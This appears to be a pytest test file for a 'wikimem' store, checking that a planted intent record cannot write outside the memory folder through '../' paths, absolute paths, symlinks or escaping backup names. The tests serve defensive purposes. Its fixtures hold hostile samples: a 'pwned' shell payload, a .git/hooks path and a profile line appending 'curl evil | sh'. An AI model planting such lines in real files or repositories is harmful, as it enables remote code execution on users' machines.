"""A shared memory cannot make a write land outside it through an intent record.

``.wikimem-intent/record.json`` is read by the next writer, which rolls the
files it names back to the bytes it holds. A memory arrives by ``git pull``
or an archive, so that record is attacker text: a ``../`` or absolute path,
a symlinked folder, a backup name that leaves the folder, or a file the
write could not have touched must never be written. Such a record is
quarantined (moved aside, never applied, never deleted) and reported.
"""

from __future__ import annotations

import base64
import json
import logging
import multiprocessing as mp
import os
import signal
import sys
from pathlib import Path
from typing import Any

import pytest

from conftest import SAFETY_NET
from wikimem import MemoryStore
from wikimem.disk.atomic import set_step_hook
from wikimem.disk.intent import INTENT_DIR, QUARANTINE_SUFFIX, recover

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="POSIX paths and symlinks")

PROFILE = b"# ~/.profile: executed by the command interpreter for login shells.\n"
PAYLOAD = b"#!/bin/sh\necho pwned\n"


def _b64(data: bytes | None) -> str | None:
    return None if data is None else base64.b64encode(data).decode("ascii")


def _plant(memory: Path, files: list[dict[str, Any]], journal: dict[str, Any] | None = None) -> None:
    folder = memory / INTENT_DIR
    folder.mkdir()
    record = {"version": 1, "files": files,
              "journal": journal or {"path": "journal.jsonl", "offset": 0, "lines": None}}
    (folder / "record.json").write_text(json.dumps(record))


def _entry(path: str, before: bytes | None, after: bytes | None, backup: str | None = None) -> dict[str, Any]:
    return {"path": path, "before": _b64(before), "after": _b64(after), "backup": backup}


@pytest.fixture
def world(tmp_path: Path) -> tuple[Path, Path]:
    memory, outside = tmp_path / "memory", tmp_path / "outside"
    outside.mkdir()
    (outside / "profile").write_bytes(PROFILE)
    MemoryStore(memory).add("notes", "a", "first")
    return memory, outside


def _quarantined(memory: Path) -> list[Path]:
    return sorted(memory.glob(f"{INTENT_DIR}-*{QUARANTINE_SUFFIX}"))


def test_a_planted_record_writes_nothing_outside_the_memory(world: tuple[Path, Path], caplog: Any) -> None:
    memory, outside = world
    _plant(memory, [
        _entry("../outside/pwned.sh", PAYLOAD, None),
        _entry(str(outside / "profile"), PROFILE + b"curl evil | sh\n", PROFILE),
    ])
    with caplog.at_level(logging.WARNING, logger="wikimem"):
        MemoryStore(memory).add("notes", "b", "second")
    assert not (outside / "pwned.sh").exists()
    assert (outside / "profile").read_bytes() == PROFILE
    assert MemoryStore(memory).get("notes", "b") is not None  # the ordinary write still lands
    kept = _quarantined(memory)
    assert len(kept) == 1 and (kept[0] / "record.json").is_file()  # kept, never deleted
    assert not (memory / INTENT_DIR).exists()
    assert any("quarantined" in r.getMessage() and "../outside/pwned.sh" in r.getMessage() for r in caplog.records)


@pytest.mark.parametrize("path", [
    "../outside/x.md", "/tmp/x.md", "wiki/../../outside/x.md", "wiki/sub/x.md", "wiki/.x.md",
    "lint-baseline.json", ".git/hooks/pre-commit", "wiki/x.txt", "diary/2026-13-01.md", "journal.jsonl",
    "captures/../../x.capture.json",
])
def test_a_record_naming_a_file_no_write_touches_is_quarantined(world: tuple[Path, Path], path: str) -> None:
    memory, _ = world
    _plant(memory, [_entry("wiki/notes.md", b"x", (memory / "wiki" / "notes.md").read_bytes()),
                    _entry(path, b"planted", None)])
    before = (memory / "wiki" / "notes.md").read_bytes()
    said = recover(memory)
    assert "quarantined" in said[0]
    assert (memory / "wiki" / "notes.md").read_bytes() == before  # no part of it applied
    assert len(_quarantined(memory)) == 1


def test_a_symlinked_folder_leading_out_is_refused(world: tuple[Path, Path]) -> None:
    memory, outside = world
    (memory / "diary").symlink_to(outside)  # diary/ leads out: diary/<day>.md resolves outside
    _plant(memory, [_entry("wiki/notes.md", b"x", (memory / "wiki" / "notes.md").read_bytes()),
                    _entry("diary/2026-01-01.md", PAYLOAD, None)])
    assert "quarantined" in recover(memory)[0]
    assert not (outside / "2026-01-01.md").exists()


def test_a_backup_name_that_leaves_the_folder_is_refused(world: tuple[Path, Path]) -> None:
    memory, outside = world
    current = (memory / "wiki" / "notes.md").read_bytes()
    _plant(memory, [_entry("wiki/notes.md", PROFILE, current, backup="../../outside/profile"),
                    _entry("wiki/other.md", None, None)])
    assert "quarantined" in recover(memory)[0]
    assert (outside / "profile").read_bytes() == PROFILE  # not moved into the memory
    assert (memory / "wiki" / "notes.md").read_bytes() == current


def test_an_intent_folder_that_is_a_symlink_is_moved_aside_not_emptied(world: tuple[Path, Path]) -> None:
    memory, outside = world
    (memory / INTENT_DIR).symlink_to(outside)  # no record.json there: recovery used to empty the folder
    MemoryStore(memory).add("notes", "c", "third")
    assert (outside / "profile").read_bytes() == PROFILE
    kept = _quarantined(memory)
    assert len(kept) == 1 and kept[0].is_symlink()


def test_a_stray_file_in_the_intent_folder_is_not_deleted(world: tuple[Path, Path]) -> None:
    memory, _ = world
    (memory / INTENT_DIR).mkdir()
    (memory / INTENT_DIR / "notes.txt").write_text("someone's file")
    MemoryStore(memory).add("notes", "c", "third")
    kept = _quarantined(memory)
    assert len(kept) == 1 and (kept[0] / "notes.txt").read_text() == "someone's file"


def test_lint_reports_a_quarantined_record(world: tuple[Path, Path]) -> None:
    from wikimem.lint import lint

    memory, _ = world
    _plant(memory, [_entry("../outside/pwned.sh", PAYLOAD, None), _entry("wiki/notes.md", None, None)])
    recover(memory)
    codes = [f.code for f in lint(memory).findings]
    assert "intent-quarantined" in codes


def test_a_genuine_record_still_rolls_back(world: tuple[Path, Path]) -> None:
    """The checks refuse what a write could not have made, and nothing a write does make."""
    memory, _ = world
    store = MemoryStore(memory)
    store.add("other", "x", "kept")
    notes, other = (memory / "wiki" / "notes.md").read_bytes(), (memory / "wiki" / "other.md").read_bytes()
    (memory / "wiki" / "notes.md").write_bytes(b"## a\nchanged\n")
    (memory / "wiki" / "other.md").unlink()
    _plant(memory, [_entry("wiki/notes.md", notes, b"## a\nchanged\n"), _entry("wiki/other.md", other, None),
                    _entry("diary/2026-01-01.md", None, None)])
    said = recover(memory)
    assert said == ["rolled back an interrupted write of 3 files"]
    assert (memory / "wiki" / "notes.md").read_bytes() == notes
    assert (memory / "wiki" / "other.md").read_bytes() == other


def test_a_memory_file_that_is_a_symlink_out_is_not_rolled_back_through(world: tuple[Path, Path]) -> None:
    memory, outside = world
    (memory / "wiki" / "dotfile.md").symlink_to(outside / "profile")  # the record's "after" is its known bytes
    _plant(memory, [_entry("wiki/dotfile.md", PROFILE + b"curl evil | sh\n", PROFILE),
                    _entry("wiki/notes.md", None, None)])
    assert "leads outside the memory directory" in recover(memory)[0]
    assert (outside / "profile").read_bytes() == PROFILE


def _move_killed_midway(root: str) -> None:
    set_step_hook(lambda step: os.kill(os.getpid(), signal.SIGKILL) if step == "file-1-written" else None)
    MemoryStore(root).move("notes", "a", new_file="archive")
    os._exit(0)


def test_a_killed_write_touching_a_hand_named_recall_file_rolls_back(world: tuple[Path, Path]) -> None:
    """A RecallFile made by hand (``Travel.md``) is the store's: a move's link rewrite changes it, and the
    record of that write, interrupted, is rolled back like any other, never quarantined."""
    memory, _ = world
    (memory / "wiki" / "Travel.md").write_text("# Travel\n\n## trip\nsee [[notes:a]]\n", "utf-8")
    before = {p.name: p.read_bytes() for p in (memory / "wiki").iterdir()}
    ctx = mp.get_context("fork" if "fork" in mp.get_all_start_methods() else "spawn")
    proc = ctx.Process(target=_move_killed_midway, args=(str(memory),))
    proc.start()
    proc.join(timeout=SAFETY_NET)
    assert proc.exitcode == -signal.SIGKILL
    assert (memory / INTENT_DIR / "record.json").is_file()  # killed inside the multi-file write
    said = recover(memory)
    assert said and said[0].startswith("rolled back"), said
    assert not _quarantined(memory)
    assert {p.name: p.read_bytes() for p in (memory / "wiki").iterdir()} == before
